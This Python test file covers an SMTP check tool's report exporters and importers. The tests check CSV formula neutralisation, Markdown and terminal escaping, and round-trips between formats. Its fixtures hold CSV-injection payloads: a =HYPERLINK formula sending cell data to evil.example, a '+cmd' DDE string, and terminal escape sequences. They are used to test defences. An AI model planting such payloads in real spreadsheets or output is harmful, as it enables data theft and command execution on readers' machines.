"""Report builders: CSV / JSON / Markdown contracts, formula neutralisation, import and comparison."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from checks.model import CheckId, CheckResult, Command, CommandLanguage, RunReport, Status, Verdict
from checks.report.compare import Change, compare
from checks.report.export import (
    REPORT_COLUMNS,
    neutralise,
    restore,
    rows,
    to_csv,
    to_dataframe,
    to_json,
    to_markdown,
    verdict_line,
    write_report,
)
from checks.report.markdown import md_cell
from checks.report.reader import ImportedReport, ReportFormatError, read_report
from checks.report.table import render_table, safe_text
from checks.safe_text import plain

STARTED = dt.datetime(2026, 11, 28, 10, 0, 5, 123456, tzinfo=dt.UTC)
HOSTILE_REPLY = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def make_report(*results: CheckResult, run_id: str = "run0001") -> RunReport:
    return RunReport(
        run_id=run_id, started_at=STARTED, finished_at=STARTED + dt.timedelta(seconds=3), tool_version="0.1.0",
        profile="gmail", host="smtp.gmail.com", port=587, security="starttls", sender="alice@example.com",
        results=tuple(results),
    )


def sample_report() -> RunReport:
    return make_report(
        CheckResult.of(CheckId.SETTINGS, "Settings match the setup guide", Status.PASS, "All settings as in the guide.",
                    duration_ms=1),
        CheckResult.of(CheckId.DNS_HOST, "Relay host name resolves", Status.WARN, "-1 addresses? odd | but fine",
                    details="line one\nline two", duration_ms=12),
        CheckResult.of(CheckId.AUTH_CREDENTIALS, "SMTP sign-in", Status.FAIL, HOSTILE_REPLY,
                    details="Cause: the password is wrong, \"quoted\", with commas", remediation="+cmd|' /C calc'!A0",
                    guide_section="Gmail or G Suite > Creating an app password", duration_ms=345,
                    reply="535-5.7.8 Username and Password not accepted ``` <b>x</b>",
                    transcript=("C: AUTH PLAIN ********", "S: 535-5.7.8 Username and Password not accepted")),
        CheckResult.of(CheckId.SENDER, "Sender address allowed", Status.SKIP, "@not run: sign-in failed"),
    )


def csv_records(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_csv_has_exactly_the_contract_columns_and_crlf_rows():
    # Given a report with four results
    report = sample_report()
    # When it is written as CSV
    text = to_csv(report)
    # Then the header is the contract's column list, rows end in CRLF and each result is one record
    records = csv_records(text)
    assert tuple(records[0]) == REPORT_COLUMNS
    assert text.startswith("run_id,started_at,") and text.endswith("\r\n")
    assert len(records) == 1 + 4
    assert records[1][REPORT_COLUMNS.index("started_at")] == "2026-11-28T10:00:05+00:00"
    assert records[3][REPORT_COLUMNS.index("duration_ms")] == "345"
    assert records[3][REPORT_COLUMNS.index("port")] == "587"


def test_csv_quotes_commas_quotes_and_line_breaks_per_rfc4180():
    # Given details with commas, double quotes and a line break
    text = to_csv(sample_report())
    # When the raw text is inspected
    # Then such cells are quoted and inner quotes doubled, and a csv reader gets the original text back
    assert '"Cause: the password is wrong, ""quoted"", with commas"' in text
    assert '"line one\nline two"' in text
    records = csv_records(text)
    assert records[2][REPORT_COLUMNS.index("details")] == "line one\nline two"


@pytest.mark.parametrize("cell", [HOSTILE_REPLY, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised_and_restored(cell):
    # Given a cell a spreadsheet would run as a formula
    # When it is neutralised
    safe = neutralise(cell)
    # Then it starts with an apostrophe and restore() gives the original back
    assert safe == "'" + cell
    assert restore(safe) == cell


@pytest.mark.parametrize("cell", ["plain", "", "'quoted' text", "it's = fine", "587"])
def test_harmless_cells_are_left_alone(cell):
    assert neutralise(cell) == cell
    assert restore(cell) == cell


def test_apostrophe_before_a_formula_character_survives_a_round_trip():
    # Given text that already starts with an apostrophe and a formula character
    cell = "'=already quoted"
    # When neutralised and restored
    # Then the escape is unambiguous
    assert neutralise(cell) == "''=already quoted"
    assert restore(neutralise(cell)) == cell


def test_csv_neutralises_hostile_cells_from_the_server():
    # Given a failing check whose summary and remediation are hostile
    records = csv_records(to_csv(sample_report()))
    fail_row = dict(zip(REPORT_COLUMNS, records[3], strict=True))
    # Then no text cell starts with a formula character
    for record in records[1:]:
        for column, value in zip(REPORT_COLUMNS, record, strict=True):
            if column not in ("port", "duration_ms"):
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    assert fail_row["summary"] == "'" + HOSTILE_REPLY
    assert fail_row["remediation"].startswith("'+cmd")
    assert dict(zip(REPORT_COLUMNS, records[2], strict=True))["summary"].startswith("'-1 addresses")


def test_csv_with_bom_for_excel():
    assert to_csv(sample_report(), bom=True).startswith("\ufeffrun_id,")


def test_rows_and_dataframe_hold_raw_values():
    # Given the sample report
    report = sample_report()
    # When turned into rows and a DataFrame
    plain = rows(report)
    frame = to_dataframe(report)
    # Then both have the contract columns and the values as they are (not neutralised)
    assert list(plain[0]) == list(REPORT_COLUMNS)
    assert list(frame.columns) == list(REPORT_COLUMNS)
    assert frame.loc[2, "summary"] == HOSTILE_REPLY
    assert frame["duration_ms"].tolist() == [1, 12, 345, 0]
    assert str(frame["port"].dtype) == "int64"


def test_json_has_the_contract_shape():
    # Given the sample report
    document = json.loads(to_json(sample_report()))
    # Then run and results carry every contract key, and the verdict is the report's
    assert set(document) == {"run", "results"}
    assert {"id", "started_at", "finished_at", "tool_version", "profile", "host", "port", "security", "sender",
            "verdict"} <= set(document["run"])
    assert document["run"]["verdict"] == "problems"
    assert document["run"]["port"] == 587
    assert document["run"]["started_at"] == "2026-11-28T10:00:05.123456+00:00"
    first = document["results"][0]
    assert {"check_id", "title", "status", "summary", "details", "remediation", "guide_section",
            "duration_ms"} <= set(first)
    assert [r["check_id"] for r in document["results"]] == ["settings", "dns.host", "auth.credentials", "sender"]
    assert document["results"][2]["reply"].startswith("535-5.7.8")
    assert "facts" not in document["results"][0]


def test_json_leaves_out_facts():
    # Given a result with engine facts
    report = make_report(CheckResult.of(CheckId.PORT, "Port reachable", Status.PASS, "open",
                                     facts={"address": "192.0.2.7"}))
    # Then the JSON report does not carry them
    assert "192.0.2.7" not in to_json(report)


def test_markdown_has_header_table_and_problem_sections():
    # Given the sample report
    text = to_markdown(sample_report())
    # Then the header names verdict, host, profile, run id and date
    assert text.startswith("## ❌ SMTP relay check: 1 problem to fix")
    for expected in ("smtp.gmail.com:587", "| Profile | gmail |", "| Run | run0001 |", "2026-11-28T10:00:05"):
        assert expected in plain(text)
    # And the table escapes pipes and line breaks so each result stays one row
    table_rows = [line for line in text.splitlines() if line.startswith("| ") and "`" in line]
    assert len(table_rows) == 4
    assert "odd \\| but fine" in table_rows[1]
    # And each non-pass result has a section; the reply sits in a fence longer than its own backticks
    assert "### ❌ fail: SMTP sign-in (`auth.credentials`)" in plain(text)
    assert "### ⚠️ warn: Relay host name resolves (`dns.host`)" in text
    assert "### ✅" not in text
    assert "````text\n535-5.7.8 Username and Password not accepted ``` &lt;b&gt;" not in text
    assert "````text\n535-5.7.8 Username and Password not accepted ``` <b>x</b>\n````" in text
    assert "**Fix:** \\+cmd\\|" in text and "**Fix:** +cmd|' /C calc'!A0" in plain(text)
    assert "**Setup guide:** Gmail or G Suite \\> Creating an app password" in text



def test_markdown_cell_escaping():
    assert md_cell("a | b\nc\r\nd") == "a \\| b<br>c<br>d"
    assert md_cell("<script>") == "\\<script\\>"


def test_verdict_line_counts_problems_and_warnings():
    assert verdict_line(sample_report()) == "1 problem to fix"
    ready = make_report(CheckResult.of(CheckId.SETTINGS, "S", Status.WARN, "w"))
    assert verdict_line(ready) == "Ready for go-live (1 warning)"
    assert ready.verdict is Verdict.READY


def test_csv_round_trip_gives_the_same_results():
    # Given a report written as CSV
    report = sample_report()
    # When it is read back
    back = read_report(to_csv(report).encode("utf-8"), name="report.csv")
    # Then run identity and every CSV column of every result are the same
    assert isinstance(back, ImportedReport)
    assert (back.run_id, back.profile, back.host, back.port, back.sender) == (
        report.run_id, report.profile, report.host, report.port, report.sender)
    assert back.started_at == STARTED.replace(microsecond=0)
    assert rows(back) == rows(report)
    assert back.verdict is report.verdict
    assert back.unknown_check_ids == () and back.read_notes == ()


def test_json_round_trip_keeps_reply_and_transcript():
    report = sample_report()
    back = read_report(to_json(report))
    assert back.results == report.results
    assert back.started_at == report.started_at and back.security == "starttls"


def spreadsheet_mangled(report: RunReport) -> bytes:
    """What a customer's spreadsheet saves: BOM, ';' separators, other column order, extra column, 587.0."""
    records = csv_records(to_csv(report))
    header = records[0]
    order = [header.index(c) for c in reversed(REPORT_COLUMNS)]
    out = io.StringIO(newline="")
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(["Notes"] + [header[i].upper() for i in order])
    for record in records[1:]:
        cells = [record[i] for i in order]
        cells = [c + ".0" if header[i] == "port" else c for c, i in zip(cells, order, strict=True)]
        writer.writerow(["looked at it"] + cells)
    writer.writerow([""] * (len(order) + 1))
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def commands_report() -> RunReport:
    return make_report(CheckResult.of(
        CheckId.AUTH_CREDENTIALS, "SMTP sign-in", Status.FAIL, "SMTP AUTH is off for the tenant.",
        remediation="Turn SMTP AUTH on for the mailbox.",
        commands=(Command(CommandLanguage.POWERSHELL,
                          "Set-CASMailbox -Identity alice@example.com -SmtpClientAuthenticationDisabled $false",
                          "Exchange Online PowerShell"),
                  Command(CommandLanguage.POSTFIX, "smtp_tls_security_level = encrypt\n<not | a table>"))))


def test_commands_are_code_blocks_in_markdown_and_survive_json():
    # Given a failed result that carries two copy-ready commands
    report = commands_report()
    # When it is exported as Markdown
    markdown = to_markdown(report)
    # Then each command is a fenced code block in its language, verbatim, with its title above
    assert "Exchange Online PowerShell\n\n```powershell\nSet-CASMailbox -Identity alice@example.com " in markdown
    assert "```postfix\nsmtp_tls_security_level = encrypt\n<not | a table>\n```" in markdown
    # And the JSON report lists them and reads back the same
    document = json.loads(to_json(report))
    assert document["results"][0]["commands"][0] == {
        "language": "powershell", "title": "Exchange Online PowerShell",
        "code": "Set-CASMailbox -Identity alice@example.com -SmtpClientAuthenticationDisabled $false"}
    assert read_report(to_json(report)).results == report.results


def test_spreadsheet_round_trip_is_imported():
    # Given a CSV report saved back by a spreadsheet (BOM, semicolons, reordered, extra column, blank row)
    report = sample_report()
    data = spreadsheet_mangled(report)
    # When it is imported
    back = read_report(data, name="from-excel.csv")
    # Then apostrophe-escaped cells are restored and the results match
    assert rows(back) == rows(report)
    assert back.result(CheckId.AUTH_CREDENTIALS).summary == HOSTILE_REPLY


def test_windows_codepage_and_excel_dates_are_tolerated():
    # Given a CSV saved as cp1252 with a spreadsheet-style date and no apostrophes
    header = ",".join(REPORT_COLUMNS)
    line = "r9,28/11/2026 10:00,gmail,smtp.gmail.com,587,a@example.com,settings,Réglages,PASS,ok é,,,,"
    data = (header + "\n" + line + "\n").encode("cp1252")
    # When imported
    back = read_report(data)
    # Then the text, the status and the date are understood
    assert back.results[0].title == "Réglages" and back.results[0].status is Status.PASS
    assert back.started_at == dt.datetime(2026, 11, 28, 10, 0, tzinfo=dt.UTC)
    assert back.results[0].duration_ms == 0


def test_missing_column_is_named():
    # Given a CSV without the status column
    columns = [c for c in REPORT_COLUMNS if c != "status"]
    data = ",".join(columns) + "\r\n" + ",".join("x" for _ in columns) + "\r\n"
    # When imported
    with pytest.raises(ReportFormatError) as caught:
        read_report(data, name="ticket.csv")
    # Then the error names the file and the missing column
    assert "ticket.csv" in str(caught.value) and "missing column status" in str(caught.value)
    assert caught.value.column == "status"


@pytest.mark.parametrize(("field", "value", "expected"), [
    ("status", "maybe", "row 3: status 'maybe' is not one of"),
    ("port", "abc", "row 2: port 'abc' is not a whole number"),
    ("duration_ms", "1.5", "row 3: duration_ms '1.5' is not a whole number"),
])
def test_bad_row_is_named(field, value, expected):
    # Given a valid CSV whose cell is then damaged (port on the first row, others on the second)
    records = csv_records(to_csv(sample_report()))
    records[1 if field == "port" else 2][REPORT_COLUMNS.index(field)] = value
    out = io.StringIO(newline="")
    csv.writer(out).writerows(records)
    # When imported
    # Then the error names the spreadsheet row and the column
    with pytest.raises(ReportFormatError, match=expected) as caught:
        read_report(out.getvalue())
    assert caught.value.column == field


@pytest.mark.parametrize("data", [b"", b"   \r\n", "\ufeff", b"hello world\n", b"{not json", b'{"run": 1}',
                                  b"\x00\x01\x02\xff\xfe", ",".join(REPORT_COLUMNS) + "\n"])
def test_garbage_raises_report_format_error_only(data):
    with pytest.raises(ReportFormatError):
        read_report(data)


def test_two_runs_in_one_file_are_refused():
    text = to_csv(sample_report()) + to_csv(make_report(
        CheckResult.of(CheckId.PORT, "Port reachable", Status.PASS, "open"), run_id="other"
    )).split("\r\n", 1)[1]
    with pytest.raises(ReportFormatError, match="more than one run"):
        read_report(text)


def test_unknown_check_ids_are_set_aside_with_a_warning():
    # Given a report from a newer version with a check id this version does not know
    records = csv_records(to_csv(sample_report()))
    records[2][REPORT_COLUMNS.index("check_id")] = "dns.dkim"
    out = io.StringIO(newline="")
    csv.writer(out).writerows(records)
    # When imported
    back = read_report(out.getvalue())
    # Then the known rows are kept and the unknown one is counted in a warning
    assert [r.check_id for r in back.results] == [CheckId.SETTINGS, CheckId.AUTH_CREDENTIALS, CheckId.SENDER]
    assert back.unknown_check_ids == ("dns.dkim",)
    assert "dns.dkim" in back.read_notes[0]


def test_compare_classifies_each_check():
    # Given a run before and after a fix
    before = make_report(
        CheckResult.of(CheckId.SETTINGS, "S", Status.PASS, "ok"),
        CheckResult.of(CheckId.DNS_HOST, "D", Status.PASS, "ok"),
        CheckResult.of(CheckId.PORT, "P", Status.WARN, "slow"),
        CheckResult.of(CheckId.AUTH_CREDENTIALS, "A", Status.FAIL, "535"),
        CheckResult.of(CheckId.SENDER, "Se", Status.SKIP, "not run"),
    )
    after = make_report(
        CheckResult.of(CheckId.DNS_HOST, "D", Status.FAIL, "NXDOMAIN"),
        CheckResult.of(CheckId.PORT, "P", Status.PASS, "open"),
        CheckResult.of(CheckId.AUTH_CREDENTIALS, "A", Status.PASS, "235"),
        CheckResult.of(CheckId.SENDER, "Se", Status.SKIP, "not run"),
        CheckResult.of(CheckId.SEND_TEST, "T", Status.PASS, "250"),
        run_id="run0002",
    )
    # When compared
    changes = compare(before, after)
    # Then each check has its kind, in checklist order
    assert [(c.check_id.value, c.kind) for c in changes] == [
        ("settings", "removed"), ("dns.host", "broke"), ("port", "changed"), ("auth.credentials", "fixed"),
        ("sender", "same"), ("send.test", "added"),
    ]
    assert changes[3] == Change(CheckId.AUTH_CREDENTIALS, "A", Status.FAIL, Status.PASS, "fixed", "535", "235")
    assert changes[0].after_status is None and changes[-1].before_status is None


def test_write_report_to_path_and_streams(tmp_path):
    report = sample_report()
    target = tmp_path / "r.csv"
    write_report(report, "csv", target)
    assert target.read_bytes() == to_csv(report).encode("utf-8")
    text, binary = io.StringIO(), io.BytesIO()
    write_report(report, "json", text)
    write_report(report, "markdown", binary)
    assert json.loads(text.getvalue())["run"]["id"] == "run0001"
    assert binary.getvalue().decode("utf-8") == to_markdown(report)
    with pytest.raises(ValueError, match="unknown report format"):
        write_report(report, "xml", io.StringIO())


def test_table_shows_problems_and_escapes_terminal_controls():
    # Given a failing result whose server reply carries an escape sequence
    report = make_report(CheckResult.of(CheckId.AUTH_CREDENTIALS, "SMTP sign-in", Status.FAIL, "refused",
                                     remediation="Use an app password.", guide_section="Gmail > App password",
                                     reply="535 \x1b[2J\x1b]0;pwned\x07 denied", transcript=("C: EHLO x",)))
    # When rendered as a table (verbose)
    text = render_table(report, verbose=True)
    # Then the reply, fix and guide are shown, control characters are visible but inert, the verdict ends it
    assert "\x1b" not in text and "\\x1b[2J" in text
    assert "Fix: Use an app password." in text and "Setup guide: Gmail > App password" in text
    assert "C: EHLO x" in text
    assert text.rstrip().endswith("1 problem to fix")
    assert safe_text("a\u202eb") == "a\\u202eb"


def test_imported_report_with_a_warning_row_counts_the_warning():
    # Given a saved report whose only non-pass row is a warning
    report = make_report(
        CheckResult.of(CheckId.SETTINGS, "Settings", Status.PASS, "ok"),
        CheckResult.of(CheckId.TLS, "TLS", Status.WARN, "certificate expires in 12 days"),
    )
    # When it is read back from its CSV
    back = read_report(to_csv(report))
    # Then the verdict line counts the warning, as it did for the live run
    assert [r.check_id for r in back.warnings] == [CheckId.TLS]
    assert verdict_line(back) == verdict_line(report) == "Ready for go-live (1 warning)"
